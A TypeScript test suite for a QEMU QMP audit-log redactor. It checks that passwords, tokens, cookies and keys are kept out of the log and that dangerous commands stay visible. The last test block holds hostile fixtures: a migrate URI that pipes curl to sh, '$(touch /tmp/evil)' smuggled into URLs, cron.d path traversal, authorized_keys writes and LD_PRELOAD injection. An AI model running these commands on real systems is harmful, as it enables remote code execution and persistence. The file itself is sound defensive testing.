/** Ways to write a secret in QMP, right and nearly right, and deeds that may look like one. Nothing of the first may be in the log, all of the others must. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { Redactor } from '../../../dist/audit/redact/redaction.js';
import { openTestLog, testClient, testCommand, wire } from '../../support/text/audit.js';

const SECRET = 'hush4711';

/** @returns a command; `args` as an object, or as the JSON that stands for it. */
function command(name: string, args: unknown): string {
  return `{"execute":${JSON.stringify(name)},"arguments":${typeof args === 'string' ? args : JSON.stringify(args)}}`;
}
function json(value: unknown): string {
  return `json:${JSON.stringify(value)}`;
}

const blockdev = (args: unknown) => command('blockdev-add', args);
const url = (text: string) => blockdev({ driver: 'https', url: text });

const WAYS: Readonly<Record<string, readonly string[]>> = {
  'a member whose name is nearly right': [
    ...[
      'pasword',
      'passwrod',
      'Password',
      'PASSWORD',
      'pass_word',
      'passwd',
      'pasw0rd',
      'passwort',
      'pass',
      'pwd',
      'pw',
    ].map((name) => command('x-anything', { [name]: SECRET })),
    ...['psk', 'token', 'api_key', 'api-key', 'apiKey', 'access_token', 'auth-token', 'secret', 'Secret', 'sercet'].map(
      (name) => command('x-anything', { [name]: SECRET }),
    ),
    ...[
      'Cookie',
      'cokie',
      'cookies',
      'file.Cookie',
      'a.b.c.pasword',
      'passphrase',
      'pass-phrase',
      'OSK',
      'vnc-password',
    ].map((name) => blockdev({ driver: 'https', [name]: SECRET })),
    command('set_password', { protocol: 'vnc', pword: SECRET }),
    command('set_password', { protocol: 'vnc', word: SECRET }),
    command('set_password', { protocol: 'vnc', password: { value: SECRET } }),
    command('change-vnc-password', { to: SECRET }),
    command('expire_password', { protocol: 'vnc', time: SECRET.padEnd(60, 'x') }),
    command('block_passwd', { device: 'd', 'pass word': SECRET }),
    command('guest-set-user-password', { username: 'u', new: SECRET, crypted: false }),
    command('sev-inject-launch-secret', { 'packet-header': SECRET, Secret: SECRET }),
  ],
  'a member by whose last word clients give secrets, whatever its value': [
    ...'key Key privkey private_key bearer Authorization auth otp pin ticket sshkey hmac signature sig jwt session session-key luks-key passcode X-Auth-Key'
      .split(' ')
      .flatMap((name) => [
        blockdev({ driver: 'https', [name]: SECRET }),
        command('x-any', { options: { a: { [name]: SECRET } } }),
        blockdev({ filename: json({ encrypt: { format: 'luks', [name]: SECRET } }) }),
        command('qom-set', { path: '/objects/s', property: name, value: SECRET }),
      ]),
    ...['password.', 'password.0', 'file.pasword.x', 'file.cookie.0.1'].map((name) => blockdev({ [name]: SECRET })),
    ...[[SECRET], { a: SECRET }, [[{ b: SECRET }]]].map((value) => command('x-any', { pasword: value })),
  ],
  'what the agent of a guest is given': [
    command('guest-exec', { path: '/bin/cat', 'input-data': SECRET, 'capture-output': true }),
    command('guest-exec', { path: '/bin/cat', 'input-dta': SECRET }),
    command('guest-exe', { path: '/bin/cat', input: SECRET }),
    ...[
      'PGPASSWORD PASSWORD MYSQL_PWD DB_PASS AWS_SECRET_ACCESS_KEY GITHUB_TOKEN API_KEY APIKEY api_key SESSION',
      'VAULT_TOKEN SSHPASS BORG_PASSPHRASE RESTIC_PASSWORD AUTH_COOKIE PRIVATE_KEY OTP JWT awsSecretKey PGPASWORD',
    ]
      .flatMap((names) => names.split(' '))
      .map((name) => command('guest-exec', { path: '/bin/x', env: ['PATH=/bin', `${name}=${SECRET}`] })),
    command('guest-exec', { path: '/bin/x', env: [`TOKEN=a b=${SECRET}`] }),
    command('guest-exec', { path: '/bin/x', env: `TOKEN=${SECRET}` }),
    command('guest-exec', { path: '/bin/x', env: { TOKEN: SECRET } }),
    command('guest-exec', {
      path: '/bin/x',
      env: [`URL=https://u:${SECRET}@h/`, `TOKEN=${'x'.repeat(70_000)}${SECRET}`],
    }),
    command('guest-file-write', { handle: 1000, 'buf-b64': SECRET, count: 6 }),
    command('guest-file-write', { handle: 1000, buf: SECRET }),
    command('guest-set-user-password', { username: 'root', password: SECRET, crypted: true }),
    command('guest-set-user-password', { username: 'root', pasword: SECRET }),
  ],
  'options of the command line in a member': [
    command('device_add', { driver: `isa-applesmc,osk=${SECRET}` }),
    command('object-add', { 'qom-type': `secret,data=${SECRET}`, id: 'o' }),
    command('object-add', { 'qom-type': 'secret', id: `a,data=${SECRET}` }),
  ],
  'HMP that opens media': [
    ...[`change cd0 json:{"cookie":"${SECRET}"}`, `change cd0 "json:{\\"cookie\\":\\"${SECRET}\\"}"`].map((line) =>
      command('human-monitor-command', { 'command-line': line }),
    ),
    command('human-monitor-command', { 'command-line': `vnc ${SECRET}` }),
  ],
  'a command whose name is nearly right': [
    command('set-pasword', { protocol: 'vnc', word: SECRET }),
    command('setpassword', { protocol: 'vnc', word: SECRET }),
    command('change-vnc-pasword', { arg: SECRET }),
    command('object-ad', { 'qom-type': 'sec', id: 's', data: SECRET }),
    command('object_add', { kind: 'secret', id: 's', data: SECRET }),
    command('qom-st', { path: '/objects/s', property: 'data', value: SECRET }),
    command('qom_set', { path: '/objects/s', property: 'data', val: SECRET }),
    command('human-monitor-comand', { 'command-line': `set_password vnc ${SECRET}` }),
    command('human-monitor-command', { command_line: `set_password vnc ${SECRET}` }),
    command('human-monitor-command', { command: `set_password vnc ${SECRET}` }),
    `{"execute":"set_password vnc ${SECRET}"}`,
    `{"execute":"object_add secret,id=s,data=${SECRET}"}`,
  ],
  'a secret object': [
    command('object-add', { 'qom-type': 'secret', id: 's', Data: SECRET }),
    command('object-add', { 'qom-type': 'secret', id: 's', dat: SECRET }),
    command('object-add', { 'qom-type': 'Secret', id: 's', data: SECRET }),
    command('object-add', { 'qom-type': 'secrt', id: 's', blob: SECRET }),
    command('object-add', { qom_type: 'secret', id: 's', blob: SECRET }),
    command('object-add', { 'qom-tpye': 'secret', id: 's', blob: SECRET }),
    command('object-add', { 'qom-type': 'secret', id: 's', props: { data: SECRET } }),
    command('object-add', { 'qom-type': 'tls-cred-x509', id: 't', psk: SECRET }),
    command('object-add', { 'qom-type': 'sev-guest', id: 't', 'dh-cert': SECRET, session: SECRET }),
    command('object-add', { 'qom-type': 'sev-snp-guest', id: 't', 'later-key': SECRET }),
    command('transaction', { actions: [{ 'qom-type': 'secret', data: SECRET }] }),
    command('qom-set', { path: '/objects/s', property: 'Data', value: SECRET }),
    command('qom-set', { path: '/objects/s', property: 'dta', value: SECRET }),
    command('qom-set', { path: '/objects/s', property: 'data', vlue: SECRET }),
    command('qom-set', { path: '/objects/s', propety: 'data', value: SECRET }),
    command('qom-set', { path: '/objects/s', property: 'data', value: { a: [SECRET] } }),
    command('qom-set', { path: '/machine', property: 'vnc.pasword', value: SECRET }),
  ],
  'an URL': [
    ...[
      SECRET,
      `pa'${SECRET}`,
      `pa"${SECRET}`,
      `pa ${SECRET}`,
      `p@${SECRET}`,
      `pa/${SECRET}`,
      `pa:${SECRET}`,
      `pa%20${SECRET}`,
      `${SECRET}é`,
    ].flatMap((password) => [
      url(`https://u:${password}@h/x`),
      command('drive-mirror', { target: `ftp://u:${password}@h` }),
    ]),
    url(`https://:${SECRET}@h/`),
    url(`HTTPS://u:${SECRET}@h/`),
    url(`https://u@v:${SECRET}@h/`),
    ...['https:/', 'https//', 'https:', 'HTTP:/', ' ftp:/'].map((scheme) => url(`${scheme}u:${SECRET}@h/x`)),
    url(`iscsi+tcp://u%${SECRET}@h/iqn/1`),
    url(`https://h/x?ticket=${SECRET}`),
    url(` https://u:${SECRET}@h/`),
    url(`https://u:${SECRET}@[::1]:8080/`),
    url(`https://u:${SECRET.repeat(40)}@h/`),
    url(`iscsi://u%${SECRET}@h/iqn/1`),
    url(`iser://u%${SECRET}@h/iqn/1`),
    url(`newscheme+tcp://u:${SECRET}@h/1`),
    ...[
      'sig',
      'Sig',
      'signature',
      'auth',
      'key',
      'Key',
      'api_key',
      'api-key',
      'apikey',
      'apiKey',
      'token',
      'access_token',
      'accessToken',
      'X-Amz-Signature',
      'X-Amz-Security-Token',
      'X-Goog-Credential',
      'AWSSecretKey',
      'password',
      'passwd',
      'pwd',
      'secret',
      'jwt',
      'client_secret',
      'sas',
      'session',
      't%6Fken',
      'pasword',
    ].map((name) => url(`https://h/x?a=1&${name}=${SECRET}&b=2`)),
    url(`https://h/x?token=${SECRET}'${SECRET} ${SECRET}`),
    url(`https://h/x;token=${SECRET}`),
    url(`https://h/x#access_token=${SECRET}`),
    url(`https://h/x?u=https://a:${SECRET}@b/`),
    blockdev({ driver: 'raw', file: { filename: `https://u:${SECRET}@h/x` } }),
    blockdev({ driver: 'raw', filename: `blkdebug:/etc/b.conf:https://u:${SECRET}'${SECRET}@h/x` }),
    blockdev({ driver: 'raw', filename: `blkdebug::https://u:${SECRET} ${SECRET}@h/x` }),
    command('x-note', { text: `I would like to open https://u:${SECRET}@h/x, please` }),
  ],
  'an rbd: name': [
    blockdev({ filename: `rbd:pool/i:id=admin:key=${SECRET}:mon_host=h` }),
    blockdev({ filename: `RBD:pool/i:key=${SECRET}` }),
    blockdev({ filename: `rbd:pool/i:key=a\\:${SECRET}` }),
    blockdev({ filename: `rbd:pool/i@snap:Key=${SECRET}` }),
    blockdev({ filename: `blkdebug::rbd:pool/i:key=${SECRET}` }),
    blockdev({ filename: `rbd:pool/i:client_secret=${SECRET}:x=y` }),
  ],
  'JSON within a text': [
    ...[
      { driver: 'https', cookie: SECRET },
      { driver: 'https', Cookie: SECRET },
      { driver: 'https', 'file.cookie': SECRET },
      { driver: 'https', url: `https://u:${SECRET}@h/` },
      { 'qom-type': 'secret', data: SECRET },
      { file: { filename: json({ password: SECRET }) } },
      { file: [[[{ filename: json({ file: [json({ pasword: SECRET })] }) }]]] },
    ].flatMap((value) =>
      ['', 'blkdebug::', 'blkdebug:/etc/x:', 'blkverify:/raw:', 'xx'].map((prefix) =>
        blockdev({ filename: prefix + json(value) }),
      ),
    ),
    blockdev({ filename: `json: {'driver':'https','cookie':'${SECRET}'}` }),
    blockdev({ filename: `json:{"a":1}json:{"cookie":"${SECRET}"}` }),
    blockdev({ filename: `{"driver":"https","cookie":"${SECRET}"}` }),
    blockdev({ filename: `JSON:{"driver":"https","cookie":"${SECRET}"}` }),
    blockdev({ filename: `json:[{"cookie":"${SECRET}"}]` }),
    blockdev({ filename: `json:"cookie=${SECRET}"` }),
    blockdev({ filename: `json://{"cookie":"${SECRET}"}` }),
    blockdev({ filename: `json:{"a":1} {"cookie":"${SECRET}"}` }),
    blockdev({ filename: `json:{"key":"${SECRET}"` }),
    blockdev({ filename: `json:{"cookie":"${SECRET}` }),
    blockdev({ filename: `json:{"cookie" "${SECRET}"}` }),
    blockdev({ filename: `json:{"pasword":"${SECRET}"]` }),
    blockdev({ filename: `json:{"c\\u006fokie": ${SECRET}}` }),
    blockdev({ filename: `json:{"a":1, url: https://u:${SECRET}@h}` }),
  ],
  'an id': [
    `{"execute":"set_password","arguments":{"protocol":"vnc","password":"${SECRET}"},"id":"${SECRET}"}`,
    `{"id":"for ${SECRET}!","execute":"set_password","arguments":{"protocol":"vnc","password":"${SECRET}"}}`,
    `{"execute":"stop","id":{"password":"${SECRET}"}}`,
    `{"execute":"stop","id":"https://u:${SECRET}@h/"}`,
    `{"execute":"stop","id":"password=${SECRET}"}`,
    `{"execute":"stop","id":["password","${SECRET}"]}`,
    `{"execute":"stop","id":"{\\"password\\":\\"${SECRET}\\"}"}`,
    `{"execute":"set_password","arguments":{"protocol":"vnc","password":"${SECRET}"},"id":{"${SECRET}":1}}`,
    `{"execute":"stop","id":["a",{"b":"json:{\\"cookie\\":\\"${SECRET}\\"}"}]}`,
    `{"execute":"qom-set","arguments":{"path":"/objects/s","property":"data","value":"${SECRET}"},"id":["x","${SECRET}"]}`,
  ],
  'escapes and the other quotes': [
    `{'execute':'set_password','arguments':{'protocol':'vnc','pas\\u0073word':'${SECRET}'}}`,
    `{"exec\\u0075te":"set_passw\\u006frd","arguments":{"protocol":"vnc","password":"${SECRET}"}}`,
    blockdev(`{"filename":"j\\u0073on:{\\"cookie\\":\\"${SECRET}\\"}"}`),
    blockdev(`{"filename":"https:\\/\\/u:${SECRET}@h"}`),
  ],
};

/** What is no message: broken, cut, or not QMP at all. */
const BROKEN: readonly string[] = [
  `{"execute":"set_password","arguments":{"password": ${SECRET}}}`,
  `{"execute":"x","arguments":{"pasword":"${SECRET}"`,
  `{"execute":"x","arguments":{"passwrod":"${SECRET}"}]`,
  `{"execute":"object-add","arguments":{"qom-type" "secret","data":"${SECRET}"}}`,
  `{"cokie" "${SECRET}"}`,
  `{"x":"https://u:${SECRET}@h`,
  `{"execute":"guest-file-write","arguments":{"buf-b64":"${SECRET}"`,
  `{"execute":"guest-exec","arguments":{"input-data":"${SECRET}"`,
  `{"p\\u0061ssword" "${SECRET}"}`,
  `set_password vnc ${SECRET}\n`,
  `passwort ${SECRET}`,
  `{"token"="${SECRET}"}`,
  `{"filename":"rbd:p/i:key=${SECRET}"`,
  ...['sig', 'key', 'auth', 'data', 'jwt', 'bearer', 'X-Amz-Signature', 'ticket'].map(
    (name) => `{"${name}":"${SECRET}"]`,
  ),
  `{"x":"?sig=${SECRET}"]`,
  `["set_password","vnc","${SECRET}"]`,
  `"set_password vnc ${SECRET}"`,
  `{"execute":"set_password","arguments":"${SECRET}"}`,
  `{"execute":"set_password","arguments":["vnc","${SECRET}"]}`,
  `{"execute":"set_password","argument":{"protocol":"vnc","word":"${SECRET}"}}`,
  `{"execute":"set_password","protocol":"vnc","word":"${SECRET}"}`,
  `{"exec":"set_password","arguments":{"word":"${SECRET}"}}`,
  `{"method":"object-add","params":{"x":"${SECRET}"}}`,
];

function nameOf(raw: string): string {
  const unescaped = raw.replace(/\\u([0-9a-f]{4})/gi, (_, hex: string) =>
    String.fromCharCode(Number.parseInt(hex, 16)),
  );
  return /["']execute["']:["']([^"']*)/.exec(unescaped)?.[1] ?? '';
}

describe('no way to write a secret brings it into the log', () => {
  for (const [what, ways] of Object.entries(WAYS)) {
    test(what, async (t) => {
      const log = await openTestLog(t);
      const client = testClient();
      for (const raw of ways) {
        const id = what === 'an id' ? JSON.stringify(JSON.parse(raw).id) : undefined;
        const sent = testCommand(client, nameOf(raw), raw, id === undefined ? {} : { id: Buffer.from(id) });
        const error = wire(JSON.stringify({ error: { class: 'GenericError', desc: `I know nothing of ${raw}` } }));
        log.recorder.command(sent);
        log.recorder.abandoned(sent, wire(`{"error": {"class": "GenericError", "desc": "late"}, "id": ${id ?? 0}}`));
        log.recorder.answered(sent, [error], true, 'upstream');
        const denied = testCommand(client, nameOf(raw), raw, id === undefined ? {} : { id: Buffer.from(id) });
        log.recorder.denied(denied, 'read-only', error);
        const lost = testCommand(client, nameOf(raw), raw, id === undefined ? {} : { id: Buffer.from(id) });
        log.recorder.unanswered(lost, 'connection reset');
        const tail = new Redactor().malformed(Buffer.from(`${raw},`));
        assert.ok(tail !== null && !Buffer.from(tail.bytes).includes(SECRET), `malformed: ${raw}`);
      }
      await log.records();
      const leaks = (await log.close()).split('\n').filter((line) => line.includes(SECRET));
      assert.deepEqual(leaks, []);
    });
  }

  test('input that is broken', () => {
    const redactor = new Redactor();
    for (const raw of BROKEN) {
      const found = redactor.malformed(Buffer.from(raw));
      assert.ok(found !== null && !Buffer.from(found.bytes).includes(SECRET), raw);
    }
  });

  test('answers and events from QEMU', () => {
    const redactor = new Redactor();
    const answers: readonly [name: string, asked: string, answer: string][] = [
      ['qom-get', command('qom-get', { path: '/objects/s', property: 'data' }), `{"return": "${SECRET}"}`],
      ['qom-get', command('qom-get', { path: '/objects/s', property: 'Data' }), `{"return": "${SECRET}"}`],
      ['qom-get', command('qom-get', { path: '/objects/s', prop: 'data' }), `{"return": {"a": ["${SECRET}"]}}`],
      ['qom-get', command('qom-get', { path: '/machine', property: 'x' }), `{"return": {"password": "${SECRET}"}}`],
      [
        'qom-list-get',
        command('qom-list-get', { paths: ['/objects/s'] }),
        JSON.stringify({ return: [{ properties: [{ name: 'data', type: 'string', value: SECRET }] }] }),
      ],
      [
        'qom-list-get',
        command('qom-list-get', { paths: ['/objects/s'] }),
        JSON.stringify({ return: [{ properties: [{ value: { x: SECRET }, name: 'password' }] }] }),
      ],
      ['query-block', '{"execute":"query-block"}', JSON.stringify({ return: [{ file: `https://h/?sig=${SECRET}` }] })],
      ['query-block', '{"execute":"query-block"}', JSON.stringify({ return: [{ file: json({ cookie: SECRET }) }] })],
      [
        'query-named-block-nodes',
        '{"execute":"query-named-block-nodes"}',
        JSON.stringify({ return: [{ file: `rbd:p/i:key=${SECRET}` }] }),
      ],
      ...['out-data', 'err-data', 'Out-Data'].map((name): [string, string, string] => [
        'guest-exec-status',
        command('guest-exec-status', { pid: 7 }),
        JSON.stringify({ return: { exitcode: 0, exited: true, [name]: SECRET } }),
      ]),
      [
        'guest-file-read',
        command('guest-file-read', { handle: 1000 }),
        JSON.stringify({ return: { count: 8, 'buf-b64': SECRET, eof: true } }),
      ],
      [
        'x-any',
        '{"execute":"x-any"}',
        JSON.stringify({ error: { desc: `Could not open 'https://u:${SECRET}@h/x': No` } }),
      ],
    ];
    for (const [name, asked, answer] of answers) {
      const secrets = redactor.command(name, Buffer.from(asked))?.answer ?? null;
      const found = redactor.answer(name, secrets, Buffer.from(answer));
      assert.ok(found !== null && !Buffer.from(found.bytes).includes(SECRET), `${name}: ${answer}`);
    }
    for (const event of [
      { event: 'BLOCK_IO_ERROR', data: { reason: `cannot read 'https://u:${SECRET}@h/x'` } },
      { event: 'X', data: { name: `https://h/x?token=${SECRET}` } },
      { event: 'X', data: { name: json({ file: { password: SECRET } }) } },
    ]) {
      const found = redactor.other(Buffer.from(JSON.stringify(event)));
      assert.ok(found !== null && !Buffer.from(found.bytes).includes(SECRET), JSON.stringify(event));
    }
  });
});

test('an answer that comes after it was given up shows no secret of its command', async (t) => {
  const log = await openTestLog(t);
  const client = testClient();
  const commands = [
    command('qom-get', { path: '/objects/s', property: 'data' }),
    command('set_password', { protocol: 'vnc', password: SECRET }),
  ];
  log.recorder.stray([wire('{"return": "before"}')], 'an answer that no client waits for');
  for (const raw of commands) {
    const sent = testCommand(client, nameOf(raw), raw);
    log.recorder.command(sent);
    log.recorder.unanswered(sent, 'connection reset');
    log.recorder.stray([wire(`{"return": "${SECRET}"}`)], 'an answer that no client waits for');
  }
  const strays = (await log.records()).filter((record) => record['kind'] === 'stray');
  assert.deepEqual(strays[0]?.['message'], { return: 'before' });
  assert.equal(strays.length, 3);
  assert.ok(!(await log.close()).includes(SECRET));
});

describe('a deed is shown, whatever it looks like', () => {
  const redactor = new Redactor();
  const shown: readonly string[] = [
    command('migrate', { uri: 'exec:: x://y:$(touch${IFS}/tmp/evil)@z' }),
    command('migrate', { uri: 'exec:curl https://u:pw@h/?token=$(id) | sh' }),
    command('migrate', { uri: 'exec:true json:{"cookie":"; touch /tmp/evil"}' }),
    command('migrate', { uri: 'exec:true rbd:x:key=;touch /tmp/evil' }),
    command('migrate', { uri: 'fd:x://y:z@w' }),
    command('migrate-incoming', { uri: 'exec:cat x://y:$(touch /tmp/evil)@z' }),
    command('migrate', {
      channels: [
        {
          'channel-type': 'main',
          addr: { transport: 'exec', args: ['/bin/sh', '-c', 'http://u:$(touch /tmp/evil)@z', 'json:{"cookie":"x"}'] },
        },
      ],
    }),
    command('netdev_add', { type: 'bridge', id: 'n', helper: 'https://u:touch@z /tmp/evil' }),
    command('netdev_add', { type: 'tap', id: 'n', script: 'https://u:evil@z', downscript: 'https://u:evil@z' }),
    command('x-anything', { text: 'x://y:$(touch /tmp/evil)@z' }),
    command('x-anything', { text: 'x://y:`touch`@z' }),
    command('x-anything', { text: 'x://y:a;b@z' }),
    command('screendump', { filename: 'http://b:/../../../etc/cron.d/x@y' }),
    command('pmemsave', { val: 0, size: 1, filename: '/tmp/x:y@z' }),
    command('chardev-add', { id: 'c', backend: { type: 'file', data: { out: '/root/.ssh/authorized_keys' } } }),
    command('blockdev-add', { driver: 'nbd', server: { type: 'inet', host: 'h', port: '10809' }, export: 'a@b:c' }),
    command('blockdev-add', { driver: 'raw', filename: 'nbd://h:10809/export@1' }),
    command('blockdev-add', { driver: 'raw', filename: 'nbd+unix:///x?socket=/run/a:b@c' }),
    command('blockdev-add', { driver: 'raw', filename: 'https://[2001:db8::1]:8080/a@b' }),
    command('qom-set', { path: '/machine', property: 'date', value: 'x' }),
    // What QEMU opens as it is, whatever it looks like.
    ...[
      'http://a:b@c/../../etc/cron.d/x',
      'json:{"password":"/../../x"}',
      'rbd:x:key=/../x',
      '/tmp/a://x:y@z',
      './json:{"key":"x"}',
      'password=x',
    ].flatMap((name) => [
      command('screendump', { filename: name }),
      command('pmemsave', { val: 0, size: 1, filename: name }),
      command('dump-guest-memory', { paging: false, protocol: `file:${name}` }),
      command('chardev-add', { id: 'c', backend: { type: 'file', data: { out: name, logfile: name } } }),
      command('chardev-add', {
        id: 'c',
        backend: { type: 'socket', data: { addr: { type: 'unix', data: { path: name } } } },
      }),
      command('migrate', { uri: `file:${name}` }),
      command('migrate', { uri: `unix:${name}` }),
      command('migrate', { channels: [{ addr: { transport: 'file', filename: name, offset: 0 } }] }),
      command('object-add', { 'qom-type': 'memory-backend-file', id: 'm', 'mem-path': name }),
      command('object-add', { 'qom-type': 'secret', id: 'm', file: name }),
      command('netdev_add', { type: 'user', id: 'n', smb: name, guestfwd: [{ str: `tcp::1-cmd:${name}` }] }),
      command('nbd-server-start', { addr: { type: 'unix', data: { path: name } } }),
      blockdev({ driver: 'file', 'node-name': 'n', filename: name }),
      blockdev({ driver: 'raw', file: { driver: 'host_device', filename: name } }),
      blockdev({ driver: 'raw', file: { filename: `/x/${name}` } }),
      command('drive-mirror', { device: 'd', sync: 'full', target: `./${name}` }),
      ...['screendump', 'logfile', 'chardev-add file,id=c,path=', 'migrate file:', 'nbd_server_start unix:'].map(
        (verb) =>
          command('human-monitor-command', {
            'command-line': `${verb}${/[=:]$/.test(verb) ? '' : ' '}${name.replaceAll('"', '')}`,
          }),
      ),
    ]),
    command('guest-exec', { path: '/bin/sh', arg: ['-c', 'https://u:$(evil)@h'] }),
    command('guest-exec', {
      path: '/bin/sh',
      arg: ['-c', 'TOKEN=x evil', 'password=x'],
      env: ['LD_PRELOAD=/tmp/evil.so', 'BASH_ENV=/tmp/evil', 'PWD=/root', 'PATH=/tmp', 'KEYMAP=de', 'MONKEY=x'],
      'capture-output': true,
    }),
    command('guest-file-open', { path: '/root/.ssh/authorized_keys', mode: 'w' }),
  ];
  for (const raw of shown) {
    test(raw, () => {
      assert.equal(redactor.command(nameOf(raw), Buffer.from(raw))?.message ?? null, null);
    });
  }

  test('and the text around a secret, without it', () => {
    const raw = url('https://bob:hush@host.example/path/x.img?a=1&sig=abc&b=2');
    const found = redactor.command('blockdev-add', Buffer.from(raw))?.message;
    const text = Buffer.from(found?.bytes ?? []).toString();
    assert.match(
      text,
      /"https:\/\/bob:\[redacted 4 bytes #[0-9a-f]{8}\]@host\.example\/path\/x\.img\?a=1&sig=\[redacted 3 bytes #[0-9a-f]{8}\]&b=2"/,
    );
    assert.deepEqual(found?.paths, ['arguments.url!password', 'arguments.url!sig']);
  });

  test('commands to an agent and its answers, except for contents, each with a distinct mark', () => {
    const argumentsOf = (name: string, args: unknown) =>
      JSON.parse(Buffer.from(redactor.command(name, Buffer.from(command(name, args)))?.message?.bytes ?? []).toString())
        .arguments;
    const mark = /^\[redacted 4 bytes #[0-9a-f]{8}\]$/;
    const run = { path: '/bin/sh', arg: ['-s'], env: ['A=b', 'TOKEN=abcd'], 'input-data': 'ZXZp' };
    const { 'input-data': input, env, ...others } = argumentsOf('guest-exec', run);
    assert.match(input, mark);
    assert.deepEqual(others, { path: '/bin/sh', arg: ['-s'] });
    assert.equal(env[0], 'A=b');
    assert.match(env[1], /^TOKEN=\[redacted 4 bytes #[0-9a-f]{8}\]$/);
    const { 'buf-b64': written, handle } = argumentsOf('guest-file-write', { handle: 1000, 'buf-b64': 'ZXZp' });
    assert.equal(written, input);
    assert.equal(handle, 1000);
    const status = '{"return": {"exitcode": 3, "out-data": "ZXZp", "exited": true}}';
    const answer = redactor.answer('guest-exec-status', null, Buffer.from(status));
    assert.equal(Buffer.from(answer?.bytes ?? []).toString(), status.replace('ZXZp', input));
    assert.deepEqual(answer?.paths, ['return.out-data']);
  });

  test('even if its id is full of secrets', () => {
    const id = JSON.stringify(Array.from({ length: 3000 }, () => ({ password: 'x' })));
    const raw = `{"execute":"migrate","arguments":{"uri":"exec:touch /tmp/evil"},"id":${id}}`;
    const found = redactor.command('migrate', Buffer.from(raw))?.message;
    const text = Buffer.from(found?.bytes ?? []).toString();
    assert.ok(text.includes('exec:touch /tmp/evil'), text.slice(0, 200));
    assert.match(text, /"id":"\[redacted \d+ bytes #[0-9a-f]{8}\]"/);
    assert.deepEqual(found?.paths, ['id']);
  });
});
